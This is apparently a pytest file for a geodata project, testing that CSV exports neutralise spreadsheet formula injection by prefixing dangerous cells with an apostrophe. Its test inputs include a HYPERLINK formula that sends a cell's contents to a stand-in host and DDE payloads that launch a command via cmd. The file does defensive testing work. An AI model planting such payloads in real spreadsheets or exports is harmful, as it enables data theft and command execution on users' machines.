import csv
import dataclasses
import io

import pytest
from releasing import town_run

from geodata.exporting import export_run
from geodata.releases.encoding import csv_bytes
from geodata.spreadsheets import inert

FORMULAS = [
    '=HYPERLINK("https://evil.example/?" & A1, "open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " \r\n=1+1",
    "\ufeff=1+1",
    "＝1+1",
]
AS_THEY_ARE = ["", "Main St", "3 - 5", "a=b", "-72.684", "+1", "-1e-3", ".5", "'=1", "D1", "<b>"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_work_out_is_a_text(text):
    assert inert(text) == f"'{text}"
    assert inert(inert(text)) == inert(text)


@pytest.mark.parametrize("value", [*AS_THEY_ARE, -3, -0.5, None, True, ("=1",)])
def test_all_else_stays_as_it_is(value):
    assert inert(value) == value


def test_published_tables_hold_no_formula():
    rows = [{"name": text, "x": -1.5} for text in FORMULAS]
    told = csv.DictReader(io.StringIO(csv_bytes(["name", "x"], rows).decode(), newline=""))
    for row, text in zip(told, FORMULAS, strict=True):
        assert row == {"name": f"'{text}", "x": "-1.5"}


@pytest.mark.parametrize("what", ["zones", "factors"])
def test_tables_of_a_run_hold_no_formula(tmp_path, what):
    run = town_run()
    run.zones["name"] = FORMULAS[0]  # as a person may call a zone
    factor = dataclasses.replace(run.result.model.factors[0], name=FORMULAS[0])
    model = dataclasses.replace(run.result.model, factors=(factor,))
    run = dataclasses.replace(run, result=dataclasses.replace(run.result, model=model))
    export_run(run, what, tmp_path / "x.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "x.csv").read_text())))
    assert rows[0]["name"] == f"'{FORMULAS[0]}"
    assert not any(str(cell).startswith(("=", "@")) for row in rows for cell in row.values())
